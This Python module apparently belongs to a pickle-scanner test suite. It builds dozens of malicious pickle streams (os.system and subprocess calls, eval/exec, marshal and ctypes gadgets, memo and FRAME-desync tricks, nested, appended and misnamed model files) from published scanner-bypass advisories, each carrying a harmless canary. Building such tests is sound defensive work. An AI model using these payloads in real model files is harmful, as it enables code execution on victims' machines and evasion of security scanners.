"""Malicious pickle streams: one per gadget or opcode trick, each carrying the canary payload.

Sources of the techniques (published scanner bypasses 2024-2026): picklescan advisories
CVE-2025-1716 (pip.main), CVE-2025-10157 (asyncio submodule), GHSA-vvpj-8cmc-gx39
(pkgutil.resolve_name), GHSA-m273-6v24-x4m4 (operator gadgets), GHSA-46h3-79wf-xr6c /
GHSA-4675-36f9-wf6r (profilers), GHSA-84r2-jw7c-4r5q (nested pickle), the uuid/imaplib helper and
inspect.getattr_static reports, picklescan issue 22 (memo), modelscan issues 85 and 89 (BUILD on
a function, ``__builtins__`` of an allowed module) and 338 (torch.utils.collect_env.run,
multiprocessing.util.spawnv_passfds, zlib-wrapped nested pickle).
"""

from __future__ import annotations

import functools
import pickle
import struct
import subprocess
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from .assembler import Call, Global, Raw, assemble, text
from .canary import Canary, Reduce

EXEC = "MODEL-PICKLE-EXEC"
DANGEROUS = "MODEL-PICKLE-DANGEROUS-GLOBAL"
UNRESOLVED = "MODEL-PICKLE-UNRESOLVED-GLOBAL"
CODE_EXECUTION = (EXEC, DANGEROUS)


@dataclass(frozen=True)
class PicklePayload:
    """One malicious pickle stream: how it is built and what the scanner must say about it."""

    name: str
    technique: str
    build: Callable[[Canary], bytes]
    rules: tuple[str, ...] = CODE_EXECUTION
    severity: str = "critical"
    filename: str = ""


def _getattr(obj: object, attribute: str) -> Call:
    return Call(Global("builtins", "getattr"), (obj, attribute))


def _import(module: str) -> Call:
    return Call(Global("builtins", "__import__"), (module,))


def _import_module(module: str) -> Call:
    return Call(Global("importlib", "import_module"), (module,))


def _os_system_pickle(canary: Canary) -> bytes:
    """The plainest payload; used as the inner stream of nested and container samples."""
    return assemble(Call(Global("os", "system"), (canary.shell,)), protocol=2)


def _memo_dup_stack_global(canary: Canary) -> bytes:
    """Module and name reach STACK_GLOBAL from the memo; decoy strings are the last pushed."""
    stream = (
        b"\x80\x04"
        + text("os") + b"q\x01" + b"0"  # BINPUT 1, POP
        + text("system") + b"2" + b"q\x02" + b"0" + b"0"  # DUP, BINPUT 2, POP, POP
        + text("collections") + text("OrderedDict") + b"0" + b"0"  # decoys, dropped
        + b"h\x01" + b"h\x02" + b"\x93"  # BINGET 1, BINGET 2, STACK_GLOBAL
        + text(canary.shell) + b"\x85" + b"R" + b"."
    )
    return stream


def _memo_put_overwrite(canary: Canary) -> bytes:
    """A memo slot is written twice; scanners that remember the first value see a safe import."""
    return (
        b"\x80\x04"
        + text("collections") + b"q\x00" + b"0"
        + text("os") + b"q\x00" + b"0"  # same slot, new value
        + text("system") + b"q\x01" + b"0"
        + b"h\x00" + b"h\x01" + b"\x93"
        + text(canary.shell) + b"\x85" + b"R" + b"."
    )


def _build_on_function(canary: Canary) -> bytes:
    """modelscan issue 85: BUILD sets attributes on numpy.prod, later read back by name."""
    state = lambda key, value: b"N(" + text(key) + text(value) + b"d\x86b"  # noqa: E731
    return (
        b"\x80\x05"
        + b"cnumpy\nprod\n"
        + state("a", "os")
        + state("b", "system")
        + b"0"
        + b"cnumpy\nprod.a\n" + b"p0\n"
        + b"cnumpy\nprod.b\n" + b"p1\n"
        + b"0" + b"0"
        + b"g0\n" + b"g1\n" + b"\x93"
        + text(canary.shell) + b"\x85" + b"R" + b"."
    )


def _builtins_of_allowed_module(canary: Canary) -> bytes:
    """modelscan issue 89: ``dict.get(numpy.__builtins__, 'exec')`` reaches exec."""
    getter = Call(Global("builtins", "dict.get", text_opcode=True),
                  (Global("numpy", "__builtins__", text_opcode=True), "exec"))
    return assemble(Call(getter, (canary.python,)), protocol=5)


def _inst_pty_spawn(canary: Canary) -> bytes:
    """INST: the import and the call in one text opcode (fickling PR 108)."""
    argv_list = b"(" + b"".join(b"V" + arg.encode() + b"\n" for arg in canary.argv) + b"l"
    return b"(" + argv_list + b"ipty\nspawn\n."


def _obj_os_system(canary: Canary) -> bytes:
    """OBJ: MARK, callable, args, OBJ -- calls the callable like REDUCE does."""
    return b"\x80\x01(cos\nsystem\n" + b"X" + len(canary.shell).to_bytes(4, "little") + \
        canary.shell.encode() + b"o."


def _newobj_popen(canary: Canary) -> bytes:
    """NEWOBJ on subprocess.Popen: a dangerous class instantiated without REDUCE."""
    return assemble(Raw(
        b"\x8c\x0asubprocess\x8c\x05Popen\x93"
        + b"(" + b"".join(text(a) for a in canary.argv) + b"l\x85"
        + b"\x81"
    ), protocol=4)


def _real_pickler(obj_factory: Callable[[Canary], object],
                  protocol: int) -> Callable[[Canary], bytes]:
    """Payloads written by CPython's own pickler (framing, memo, STACK_GLOBAL as emitted)."""
    return lambda canary: pickle.dumps(obj_factory(canary), protocol=protocol)


def _appended(canary: Canary) -> bytes:
    benign = pickle.dumps({"weights": [0.1, 0.2]}, protocol=4)
    return benign + _os_system_pickle(canary)


def _corrupt_after_payload(canary: Canary) -> bytes:
    """The payload runs at REDUCE; the stream then breaks, so parsers that bail lose it."""
    payload = _os_system_pickle(canary)[:-1]  # no STOP
    return payload + b"\xff\xfe garbage that is not an opcode \x00\x01"


def frame_desync(hidden: bytes, linear_value: str = "weights") -> bytes:
    """A pickle whose ``hidden`` opcodes run only under a file-object unpickler.

    A BINUNICODE argument crosses the end of its FRAME: ``pickle.loads`` reads the argument
    linearly (the hidden opcodes are then data of a BINBYTES it skips), while the C unpickler
    reading a file object (``pickle.load(file)``, ``torch.load`` of ``data.pkl`` from a
    ``BytesIO``) drops the 6 frame bytes left and reads the argument from after the frame, then
    continues with ``hidden`` (which starts by popping that string and ends with STOP).
    """
    junk = b"ab"
    declared = len(junk) + 6  # file reading: the string is junk, POP, BINBYTES and its length
    frame = b"X" + struct.pack("<I", declared) + b"frame!"
    after = (junk + b"0" + b"B" + struct.pack("<I", len(hidden)) + hidden + b"0"
             + text(linear_value) + b".")
    return b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame + after


def _frame_desync_call(canary: Canary) -> bytes:
    return frame_desync(b"0" + _os_system_pickle(canary)[2:])


def _frame_desync_next_load(canary: Canary) -> bytes:
    """A pickle stops inside its FRAME: a file-object unpickler's next load starts after it."""
    visible = text("weights") + b"." + pickle.dumps({"bias": 0.5}, protocol=2)
    filler = b"\x00" * 9000  # past what a buffered file peeks: the frame is read whole
    frame = visible + filler
    return (b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame
            + _os_system_pickle(canary))


def _torch_zip_bytes(canary: Canary) -> bytes:
    """A ``torch.save`` zip whose ``data.pkl`` is the payload (what _load_from_bytes reads)."""
    import io
    import zipfile

    import torch

    genuine = io.BytesIO()
    torch.save({"weight": torch.ones(2)}, genuine)
    out = io.BytesIO()
    with zipfile.ZipFile(genuine) as source, zipfile.ZipFile(out, "w") as archive:
        for info in source.infolist():
            data = source.read(info)
            archive.writestr(info.filename, _os_system_pickle(canary)
                             if info.filename.endswith("/data.pkl") else data)
    return out.getvalue()


def _load_from_bytes_zip(canary: Canary) -> bytes:
    """``pickle.dumps(tensor)``'s own call, on a checkpoint whose data.pkl is the payload."""
    return assemble(Call(Global("torch.storage", "_load_from_bytes"),
                         (_torch_zip_bytes(canary),)), 4)


def _load_from_bytes_legacy(canary: Canary) -> bytes:
    """Protocol 2: the bytes are ``_codecs.encode(text, 'latin1')``; torch.load reads a
    non-zip stream as a legacy checkpoint, whose first pickle is the payload."""
    padding = b"\x80\x02N0" + b"N0" * 400  # long enough to be a string the scan skips
    return assemble(Call(Global("torch.storage", "_load_from_bytes"),
                         (padding + _os_system_pickle(canary)[2:],)), 2)


def _npy_object_array(canary: Canary) -> bytes:
    """A ``.npy`` of an object array: numpy.load(allow_pickle=True) unpickles what follows."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header = header.ljust(64 - 10 - 1) + "\n"
    return (b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin-1")
            + _os_system_pickle(canary))


def _numpy_load_embedded(canary: Canary) -> bytes:
    """numpy.load(io.BytesIO(npy), None, True): allow_pickle given by position."""
    return assemble(Call(Global("numpy", "load"), (
        Call(Global("_io", "BytesIO"), (_npy_object_array(canary),)), None, True)), 3)


PAYLOADS: list[PicklePayload] = [
    PicklePayload("os-system-proto0", "GLOBAL os.system + REDUCE, text protocol 0",
                  lambda c: assemble(Call(Global("os", "system"), (c.shell,)), protocol=0)),
    PicklePayload("posix-system-reduce", "__reduce__ returning os.system (pickles as posix)",
                  _real_pickler(lambda c: Reduce(__import__("os").system, c.shell), 2)),
    PicklePayload("subprocess-popen-proto4", "subprocess.Popen via the real pickler, protocol 4",
                  _real_pickler(lambda c: Reduce(subprocess.Popen, c.argv), 4)),
    PicklePayload("subprocess-run-proto5", "subprocess.run via the real pickler, protocol 5",
                  _real_pickler(lambda c: Reduce(subprocess.run, c.argv), 5)),
    PicklePayload("subprocess-check-output", "subprocess.check_output, protocol 3",
                  lambda c: assemble(Call(Global("subprocess", "check_output"), (c.argv,)), 3)),
    PicklePayload("builtins-eval", "builtins.eval of a Python expression",
                  lambda c: assemble(Call(Global("builtins", "eval"), (c.python,)), 2)),
    PicklePayload("builtins-exec-proto1", "builtins.exec, binary protocol 1",
                  lambda c: assemble(Call(Global("builtins", "exec"), (c.python,)), 1)),
    PicklePayload("py2-builtin-eval", "__builtin__.eval (Python 2 name mapped on load)",
                  lambda c: assemble(Call(Global("__builtin__", "eval"), (c.python,)), 0)),
    PicklePayload("builtins-compile-exec", "exec(compile(...)) nested REDUCEs, protocol 4",
                  lambda c: assemble(Call(Global("builtins", "exec"), (
                      Call(Global("builtins", "compile"), (c.python, "<x>", "exec")),)), 4)),
    PicklePayload("import-getattr-chain", "getattr(__import__('os'), 'system')(cmd)",
                  lambda c: assemble(Call(_getattr(_import("os"), "system"), (c.shell,)), 2)),
    PicklePayload("builtins-open-write", "builtins.open(marker, 'w') writes a file",
                  lambda c: assemble(Call(Global("builtins", "open"), (str(c.marker), "w")), 0)),
    PicklePayload("importlib-import-module", "importlib.import_module('os') + getattr",
                  lambda c: assemble(Call(_getattr(_import_module("os"), "system"),
                                          (c.shell,)), 3)),
    PicklePayload("runpy-run-code", "runpy._run_code(source, globals)",
                  lambda c: assemble(Call(Global("runpy", "_run_code"), (c.python, {})), 2)),
    PicklePayload("webbrowser-open", "webbrowser.open of a file URL",
                  lambda c: assemble(Call(Global("webbrowser", "open"),
                                          ("file://" + str(c.marker),)), 2)),
    PicklePayload("socket-create-connection", "socket.create_connection to the loopback",
                  lambda c: assemble(Call(Global("socket", "create_connection"),
                                          (("127.0.0.1", 9),)), 2)),
    PicklePayload("shutil-rmtree", "shutil.rmtree of an absent directory",
                  lambda c: assemble(Call(Global("shutil", "rmtree"),
                                          (str(c.marker) + ".absent", True)), 2)),
    PicklePayload("pip-main", "pip.main (CVE-2025-1716): log file is the marker",
                  lambda c: assemble(Call(Global("pip", "main"),
                                          (["--log", str(c.marker), "--version"],)), 2)),
    PicklePayload("pkgutil-resolve-name", "pkgutil.resolve_name('os:system') (GHSA-vvpj)",
                  lambda c: assemble(Call(Call(Global("pkgutil", "resolve_name"),
                                                   ("os:system",)), (c.shell,)), 4)),
    PicklePayload("asyncio-unix-events", "asyncio.unix_events submodule (CVE-2025-10157)",
                  lambda c: assemble(Call(Global("asyncio.unix_events",
                                                 "_UnixSubprocessTransport._start"),
                                          (None, c.shell, True, None, None, None, 0)), 4)),
    PicklePayload("asyncio-subprocess-shell", "asyncio.subprocess.create_subprocess_shell",
                  lambda c: assemble(Call(Global("asyncio.subprocess",
                                                 "create_subprocess_shell"), (c.shell,)), 2)),
    PicklePayload("uuid-get-command-stdout", "uuid._get_command_stdout runs a command",
                  lambda c: assemble(Call(Global("uuid", "_get_command_stdout"),
                                          tuple(c.argv)), 2)),
    PicklePayload("imaplib-imap4-stream", "imaplib.IMAP4_stream spawns its command",
                  lambda c: assemble(Call(Global("imaplib", "IMAP4_stream"), (c.shell,)), 2)),
    PicklePayload("inspect-getattr-static", "inspect.getattr_static(importlib...('os'))",
                  lambda c: assemble(Call(Call(Global("inspect", "getattr_static"),
                                               (_import_module("os"), "system")),
                                          (c.shell,)), 4)),
    PicklePayload("functools-partial-system", "functools.partial(os.system, cmd) then called",
                  _real_pickler(lambda c: Reduce(functools.partial(__import__("os").system,
                                                                   c.shell)), 2)),
    PicklePayload("operator-methodcaller", "operator.methodcaller('system', cmd)(os)",
                  lambda c: assemble(Call(Call(Global("operator", "methodcaller"),
                                               ("system", c.shell)), (_import("os"),)), 2)),
    PicklePayload("operator-attrgetter", "_operator.attrgetter('system')(module)(cmd)",
                  lambda c: assemble(Call(Call(Call(Global("_operator", "attrgetter"),
                                                    ("system",)), (_import_module("os"),)),
                                          (c.shell,)), 2)),
    PicklePayload("types-functiontype-marshal", "types.FunctionType(marshal.loads(code), {})()",
                  lambda c: assemble(Call(Call(Global("types", "FunctionType"), (
                      Call(Global("marshal", "loads"), (c.code_object_bytes,)), {})), ()), 3)),
    PicklePayload("marshal-loads-exec", "exec(marshal.loads(code object bytes))",
                  lambda c: assemble(Call(Global("builtins", "exec"), (
                      Call(Global("marshal", "loads"), (c.code_object_bytes,)),)), 3)),
    PicklePayload("ctypes-cdll-system", "ctypes.CDLL(None).system(cmd)",
                  lambda c: assemble(Call(_getattr(Call(Global("ctypes", "CDLL"), (None,)),
                                                   "system"), (c.shell.encode(),)), 3)),
    PicklePayload("pty-spawn-inst", "INST opcode importing and calling pty.spawn",
                  _inst_pty_spawn),
    PicklePayload("code-interactive-interpreter", "code.InteractiveInterpreter().runsource",
                  lambda c: assemble(Call(_getattr(Call(Global("code",
                                                               "InteractiveInterpreter"), ()),
                                                   "runsource"), (c.python,)), 2)),
    PicklePayload("torch-load-nested", "torch.load(io.BytesIO(inner malicious pickle))",
                  lambda c: assemble(Call(Global("torch", "load"), (
                      Call(Global("io", "BytesIO"), (_os_system_pickle(c),)),)), 3)),
    PicklePayload("load-from-bytes-zip", "torch.storage._load_from_bytes of a checkpoint "
                  "whose data.pkl is the payload", _load_from_bytes_zip),
    PicklePayload("load-from-bytes-legacy", "_load_from_bytes(_codecs.encode(text)) of a "
                  "legacy stream led by the payload (protocol 2)", _load_from_bytes_legacy),
    PicklePayload("numpy-load-embedded", "numpy.load(BytesIO(.npy object array), None, True)",
                  _numpy_load_embedded),
    PicklePayload("numpy-testing-runstring", "numpy.testing._private.utils.runstring",
                  lambda c: assemble(Call(Global("numpy.testing._private.utils", "runstring"),
                                          (c.python, {})), 2)),
    PicklePayload("pickle-loads-nested", "pickle.loads of an inner payload (GHSA-84r2)",
                  lambda c: assemble(Call(Global("pickle", "loads"),
                                          (_os_system_pickle(c),)), 3)),
    PicklePayload("zlib-wrapped-nested", "_pickle.loads(zlib.decompress(...)) (modelscan 338)",
                  lambda c: assemble(Call(Global("_pickle", "loads"), (
                      Call(Global("zlib", "decompress"), (zlib.compress(_os_system_pickle(c)),)),
                  )), 3)),
    PicklePayload("cprofile-run", "cProfile.run(source) executes it (GHSA-46h3)",
                  lambda c: assemble(Call(Global("cProfile", "run"), (c.python,)), 2)),
    PicklePayload("io-fileio-write", "_io.FileIO(marker, 'w') creates a file (CVE-2025-10155)",
                  lambda c: assemble(Call(Global("_io", "FileIO"), (str(c.marker), "w")), 2)),
    PicklePayload("torch-collect-env-run", "torch.utils.collect_env.run (modelscan 338)",
                  lambda c: assemble(Call(Global("torch.utils.collect_env", "run"),
                                          (c.shell,)), 2)),
    PicklePayload("multiprocessing-spawnv", "multiprocessing.util.spawnv_passfds",
                  lambda c: assemble(Call(Global("multiprocessing.util", "spawnv_passfds"), (
                      b"/bin/sh", ["/bin/sh", "-c", c.shell], ())), 3)),
    PicklePayload("numpy-builtins-dict-get", "dict.get(numpy.__builtins__, 'exec') (modelscan 89)",
                  _builtins_of_allowed_module),
    PicklePayload("torch-dotted-os-system", "STACK_GLOBAL ('torch', 'os.system'): dotted name",
                  lambda c: assemble(Call(Global("torch", "os.system"), (c.shell,)), 4)),
    PicklePayload("memo-dup-stack-global", "memo indirection after DUP feeding STACK_GLOBAL",
                  _memo_dup_stack_global),
    PicklePayload("memo-put-overwrite", "memo slot overwritten before BINGET (picklescan 22)",
                  _memo_put_overwrite),
    PicklePayload("numpy-prod-build-setattr", "BUILD on numpy.prod, read back (modelscan 85)",
                  _build_on_function, rules=(*CODE_EXECUTION, UNRESOLVED), severity="high"),
    PicklePayload("obj-opcode-system", "OBJ opcode calling os.system", _obj_os_system),
    PicklePayload("newobj-popen", "NEWOBJ instantiating subprocess.Popen", _newobj_popen),
    PicklePayload("appended-second-pickle", "payload appended after a benign pickle", _appended),
    PicklePayload("corrupt-after-payload", "stream corrupted right after the REDUCE",
                  _corrupt_after_payload),
    PicklePayload("frame-desync-file-object", "a string crosses its FRAME end: the call runs "
                  "only under pickle.load of an unbuffered file or BytesIO (torch.load)",
                  _frame_desync_call),
    PicklePayload("frame-desync-next-load", "STOP inside a FRAME: the next load of a file "
                  "object reads a payload after the frame", _frame_desync_next_load),
    PicklePayload("headerless-proto0-txt", "header-less protocol-0 pickle named .txt",
                  lambda c: assemble(Call(Global("os", "system"), (c.shell,)), 0),
                  filename="notes.txt"),
    PicklePayload("headerless-proto0-noext", "header-less protocol-0 pickle, no extension",
                  lambda c: assemble(Call(Global("subprocess", "call"), (c.argv,)), 0),
                  filename="model"),
    PicklePayload("misnamed-bin-extension", "pickle named .bin (CVE-2025-1889/10155)",
                  lambda c: assemble(Call(Global("os", "popen"), (c.shell,)), 4),
                  filename="pytorch_model.bin"),
]


def inner_payload(canary: Canary) -> bytes:
    """The payload stream that container samples wrap."""
    return _os_system_pickle(canary)
